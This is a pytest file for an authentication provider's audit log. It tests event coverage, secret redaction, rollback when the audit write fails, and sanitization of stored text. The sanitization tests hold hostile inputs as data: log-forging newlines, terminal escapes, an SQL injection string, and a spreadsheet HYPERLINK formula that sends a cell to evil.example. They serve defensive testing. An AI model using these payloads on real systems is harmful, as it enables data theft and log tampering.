"""The audit: every event has its recorder, and no change is without its record nor a record without its change."""

from __future__ import annotations

import dataclasses
import json
import logging
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyotp
import pytest
from sqlalchemy import Engine, select
from sqlalchemy.exc import DBAPIError

from database.models import AuditRecord, metadata
from database.transaction import Transaction
from provider.accounts.users import User
from provider.audit import AuditEvent, AuditRecorder, printable
from provider.protocol.messages import Origin
from provider.security.crypto import SECRET_PATTERN, Keyring
from provider.services import Services
from provider.sign_in.login import WrongCredentials
from tests.accounts.conftest import PASSWORD, accounts_on, added, events_on, later

ROOT = Path(__file__).resolve().parents[1]
TABLE = AuditRecord.__table__
NAMING = ("audit.py", "activity_words.py", "watched.py")  # these name events, and record none


@pytest.fixture
def services(engine: Engine, keyring: Keyring) -> Services:
    return accounts_on(engine, keyring)


@pytest.fixture
def ana(services: Services, origin: Origin) -> User:
    return added(services, origin, "ana", is_admin=True)


def rows(engine: Engine) -> dict[str, list[Any]]:
    """Every row of every table."""
    with engine.connect() as connection:
        return {
            name: sorted(map(str, connection.execute(select(table)).all())) for name, table in metadata.tables.items()
        }


def test_every_event_is_recorded_somewhere_and_under_its_own_name() -> None:
    sources = [path for path in (ROOT / "provider").rglob("*.py") if path.name not in NAMING]
    text = "\n".join(path.read_text(encoding="utf-8") for path in sources)
    assert {event for event in AuditEvent if f"AuditEvent.{event.name}" not in text} == set()


def test_names_are_unique_and_fit_their_column() -> None:
    assert len({event.value for event in AuditEvent}) == len(AuditEvent.__members__)
    assert all(event.value.count(".") == 1 and len(event.value) <= 64 for event in AuditEvent)


def test_a_record_says_when_who_what_where_and_how_it_ended(engine: Engine, origin: Origin, ana: User) -> None:
    with Transaction(engine) as tx:
        AuditRecorder().record(
            tx,
            AuditEvent.CONSENT_GIVEN,
            origin,
            user_id=ana.id,
            actor="operator",
            outcome="denied",
            resource_type="consents",
            resource_id="row",
            scope=("openid", "이메일"),
            count=3,
        )
    (record,) = events_on(engine, "consent.given")
    record.pop("id")
    assert record == {
        "user_id": ana.id,
        "actor": "operator",
        "action": "consent.given",
        "outcome": "denied",
        "resource_type": "consents",
        "resource_id": "row",
        "metadata": {"scope": ["openid", "이메일"], "count": 3},
        "ip_address": origin.source,
        "user_agent": origin.user_agent,
        "request_id": origin.request_id,
        "created_at": origin.now,
    }


def test_a_life_of_an_account_leaves_the_records_it_should(services: Services, engine: Engine, origin: Origin) -> None:
    ended: list[str] = []

    def moment() -> Origin:
        ended.append("")
        return later(origin, 40 * len(ended))

    secrets: list[str] = [PASSWORD]
    with Transaction(engine) as tx:
        link, _until = services.setup_links.create(tx, origin.now)
        assert services.setup_links.claim(tx, moment(), link)
    ana = added(services, moment(), "ana", is_admin=True)
    added(services, moment(), "bora", is_admin=True)
    with Transaction(engine) as tx, pytest.raises(WrongCredentials):
        services.login.check_password(tx, moment(), "ana", "a wrong password")
    with Transaction(engine) as tx:
        token = services.login.start_session(tx, moment(), ana, ("pwd",))
        found = services.sessions.find(tx, moment().now, token)
        assert found is not None
        seed = services.totp.begin(tx, found[0])
        enrolling = moment()
        assert services.totp.confirm(tx, enrolling, found[0], ana, pyotp.TOTP(seed).at(enrolling.now))
        codes = services.recovery_codes.generate(tx, moment(), ana.id)
        assert services.recovery_codes.use(tx, moment(), ana.id, codes[0]) == 9
        renewed = services.sessions.rotate(tx, moment(), found[0], ("pwd", "mfa"))
        key, key_secret = services.api_keys.create(
            tx, moment(), ana, name="Key", scope=None, expires_in_days=None, resource=None
        )
        assert services.api_keys.revoke(tx, moment(), ana.id, key.id)
        assert services.totp.disable(tx, moment(), ana.id)
        assert services.sessions.end_by_token(tx, moment(), renewed, "sign_out")
        assert services.user_ends.set_active(tx, moment(), ana.id, False, actor="bora")
        assert services.user_ends.set_active(tx, moment(), ana.id, True, actor="bora")
    secrets += [link, token, renewed, seed, key_secret, "a wrong password", *codes]
    records = events_on(engine)
    assert [record["action"] for record in records] == [
        "setup.completed",
        "user.created",
        "user.created",
        "login.failed",
        *sorted(["session.started", "login.succeeded"], key=[r["action"] for r in records].index),
        "second_factor.enrolled",
        "recovery_codes.made",
        "recovery_codes.used",
        "login.reauthenticated",
        "api_key.created",
        "api_key.revoked",
        "second_factor.removed",
        "session.ended",
        "user.disabled",
        "user.enabled",
    ]
    assert {record["user_id"] for record in records[3:]} == {ana.id}
    assert {record["request_id"] for record in records} == {origin.request_id}
    text = json.dumps([{**record, "created_at": ""} for record in records])
    assert not [secret for secret in secrets if secret in text]
    assert not SECRET_PATTERN.search(text)


@pytest.fixture
def broken_audit(engine: Engine) -> Iterator[Callable[[], None]]:
    """Makes every insert into the audit fail, as a full disk or a missing right would."""
    is_sqlite = engine.dialect.name == "sqlite"
    fault = "SELECT RAISE(ABORT, 'no audit')" if is_sqlite else "SIGNAL SQLSTATE '45000'"
    body = f"BEGIN {fault}; END"

    def break_it() -> None:
        with engine.begin() as connection:
            connection.exec_driver_sql(f"CREATE TRIGGER no_audit BEFORE INSERT ON user_audit_log FOR EACH ROW {body}")

    yield break_it
    with engine.begin() as connection:
        connection.exec_driver_sql("DROP TRIGGER IF EXISTS no_audit")


CHANGES: dict[str, Callable[[Services, Transaction, Origin, User, str], object]] = {
    "create a user": lambda s, tx, origin, ana, token: s.users.create(
        tx, origin, username="bora", email="bora@example.com", password_hash=None
    ),
    "disable a user": lambda s, tx, origin, ana, token: s.user_ends.set_active(tx, origin, find_bora(s, tx).id, False),
    "start a session": lambda s, tx, origin, ana, token: s.sessions.start(tx, origin, ana.id, ("pwd",)),
    "sign in": lambda s, tx, origin, ana, token: s.login.start_session(tx, origin, ana, ("pwd",), token),
    "end a session": lambda s, tx, origin, ana, token: s.sessions.end_by_token(tx, origin, token, "sign_out"),
    "rotate a session": lambda s, tx, origin, ana, token: s.sessions.rotate(
        tx, origin, session_of(s, tx, origin, token), ("pwd",)
    ),
    "make recovery codes": lambda s, tx, origin, ana, token: s.recovery_codes.generate(tx, origin, ana.id),
    "make an API key": lambda s, tx, origin, ana, token: s.api_keys.create(
        tx, origin, ana, name="Key", scope=None, expires_in_days=None, resource=None
    ),
    "register a client": lambda s, tx, origin, ana, token: s.clients.register(
        tx, origin, kind="application", name="App", token_endpoint_auth_method="none"
    ),
    "add an API": lambda s, tx, origin, ana, token: s.resources.add(
        tx, origin, uri="https://api.example/mcp", name="API", scope=("mcp:read",)
    ),
    "make signing keys": lambda s, tx, origin, ana, token: s.signing_keys.ensure(tx, origin.now),
    "turn the second factor on": lambda s, tx, origin, ana, token: confirm(s, tx, origin, ana, token),
}


def find_bora(services: Services, tx: Transaction) -> User:
    found = services.users.find_by_login(tx, "bystander")
    assert found is not None
    return found


def session_of(services: Services, tx: Transaction, origin: Origin, token: str) -> Any:
    found = services.sessions.find(tx, origin.now, token)
    assert found is not None
    return found[0]


def confirm(services: Services, tx: Transaction, origin: Origin, ana: User, token: str) -> bool:
    session = session_of(services, tx, origin, token)
    secret = services.totp.begin(tx, session)
    return services.totp.confirm(tx, origin, session, ana, pyotp.TOTP(secret).at(origin.now))


@pytest.mark.parametrize("change", CHANGES)
def test_a_change_whose_record_cannot_be_written_does_not_happen(
    services: Services,
    engine: Engine,
    origin: Origin,
    ana: User,
    broken_audit: Callable[[], None],
    change: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    added(services, origin, "bystander")
    with Transaction(engine) as tx:
        token = services.sessions.start(tx, origin, ana.id, ("pwd",))
    before = rows(engine)
    broken_audit()
    with pytest.raises(DBAPIError), Transaction(engine) as tx:
        CHANGES[change](services, tx, origin, ana, token)
    assert rows(engine) == before
    with engine.begin() as connection:
        connection.exec_driver_sql("DROP TRIGGER no_audit")
    with Transaction(engine) as tx:
        assert CHANGES[change](services, tx, origin, ana, token), "it was the record alone"
    assert rows(engine) != before


def test_a_failed_sign_in_that_cannot_be_recorded_is_no_answer(
    services: Services, engine: Engine, origin: Origin, ana: User, broken_audit: Callable[[], None]
) -> None:
    broken_audit()
    with pytest.raises(DBAPIError), Transaction(engine) as tx:
        services.login.check_password(tx, origin, "ana", "wrong")


def test_a_change_that_is_rolled_back_leaves_neither_record_nor_log_line(
    services: Services, engine: Engine, origin: Origin, ana: User, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "mcp_core.audit")
    before = rows(engine)
    tx = Transaction(engine)
    services.sessions.start(tx, origin, ana.id, ("pwd",))
    tx.rollback()
    assert rows(engine) == before
    assert caplog.messages == []


def test_the_log_line_follows_the_commit_and_is_the_record(
    services: Services, engine: Engine, origin: Origin, ana: User, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "mcp_core.audit")
    tx = Transaction(engine)
    services.sessions.start(tx, origin, ana.id, ("pwd",))
    assert caplog.messages == []
    tx.commit()
    (line,) = caplog.messages
    (record,) = events_on(engine, "session.started")
    assert json.loads(line) == {**record, "created_at": origin.now.isoformat()}


HOSTILE = [
    "line\nlogin.succeeded",
    "line\rlogin.succeeded",
    "a\tb",
    "\x00\x01\x1b[2J\x1b]0;title\x07",
    "next\u0085line\u2028and\u2029paragraph",
    "\u202egnp.exe",
    "zero\u200bwidth\ufeff",
    "\ud800lone",
    "\x7f\x9b31m",
    '{"action": "login.succeeded"}',
    "'; DROP TABLE users; --",
    "%s%n{0}",
    "🦆" * 600,
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_hostile_text_forges_no_lines_and_fits_its_columns(
    engine: Engine, origin: Origin, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "mcp_core.audit")
    hostile = dataclasses.replace(origin, source=text, user_agent=text, request_id=text)
    with Transaction(engine) as tx:
        AuditRecorder().record(
            tx,
            AuditEvent.LOGIN_FAILED,
            hostile,
            actor=text,
            resource_id=text,
            name=text,
            names=[text, (text,)],
            nested={text: text},
        )
    (record,) = events_on(engine)
    limits = {"actor": 255, "resource_id": 255, "ip_address": 45, "user_agent": 512, "request_id": 32}
    for column, limit in limits.items():
        assert record[column].isprintable()
        assert len(record[column].encode()) <= limit
        assert len(record[column]) == len(text) or len(record[column].encode()) > limit - 4, (
            "no more is cut than must be"
        )
        assert record[column].isascii() or column == "user_agent"
    details = record["metadata"]
    (nested_name, nested_value), *_ = details["nested"].items()
    for value in (details["name"], details["names"][0], details["names"][1][0], nested_name, nested_value):
        assert value.isprintable()
        assert len(value.encode()) <= 512
        assert len(value) == len(text) or len(value.encode()) > 512 - 4
    (line,) = caplog.messages
    assert line.isascii()
    assert len(line.splitlines()) == 1
    assert json.loads(line)["action"] == "login.failed"


@pytest.mark.parametrize(
    "value, length, ascii_only, kept",
    [
        (None, 5, True, None),
        ("", 5, True, ""),
        ("abcdef", 5, True, "abcde"),
        ("a b", 5, True, "a b"),
        ("a\nb", 5, True, "a?b"),
        ("한글", 5, True, "??"),
        ("한글", 6, False, "한글"),
        ("한글", 5, False, "한"),
        ("a\u00a0b", 5, False, "a?b"),
        ("👩\u200d💻", 11, False, "👩\u200d💻"),
        ("a\u200db", 9, False, "a?b"),
        ("หญิง", 12, False, "หญิง"),
        *((f"{sign}1+1", 9, False, f"'{sign}1+1") for sign in "=+-@＝＋－＠"),
        *((f"{sign}1+1", 4, True, f"'{sign}1+") for sign in "=+-@"),
        ("=", 1, True, "'"),
        ("\t=1", 9, True, "?=1"),
        ("\r=1", 9, True, "?=1"),
        ("'=1", 9, True, "'=1"),
        (" =1", 9, True, " =1"),
        ("1-1=0", 9, True, "1-1=0"),
    ],
)
def test_what_is_kept_of_a_text(value: str | None, length: int, ascii_only: bool, kept: str | None) -> None:
    assert printable(value, length, ascii_only=ascii_only) == kept


@pytest.mark.parametrize("sign", "=+-@＝＋－＠\t\r")
def test_no_text_of_a_record_is_a_formula_to_a_spreadsheet(engine: Engine, origin: Origin, sign: str) -> None:
    text = f'{sign}HYPERLINK("https://evil.example/?"&A1)'
    hostile = dataclasses.replace(origin, source=text, user_agent=text, request_id=text)
    with Transaction(engine) as tx:
        AuditRecorder().record(
            tx, AuditEvent.LOGIN_FAILED, hostile, actor=text, resource_type="users", resource_id=text, name=text,
            nested=[{text: text}],
        )  # fmt: skip
    (record,) = events_on(engine)
    ((nested_name, nested_value),) = record["metadata"]["nested"][0].items()
    kept = [record[name] for name in ("actor", "resource_id", "ip_address", "user_agent", "request_id")]
    for value in (*kept, record["metadata"]["name"], nested_name, nested_value):
        assert value[0] not in "=+-@＝＋－＠\t\r", value


def test_records_outlive_the_user_they_are_about(engine: Engine, services: Services, origin: Origin, ana: User) -> None:
    with Transaction(engine) as tx:
        services.sessions.start(tx, origin, ana.id, ("pwd",))
        tx.execute(metadata.tables["users"].delete())
    assert {record["action"] for record in events_on(engine)} == {"user.created", "session.started"}
    assert {record["user_id"] for record in events_on(engine)} == {None}
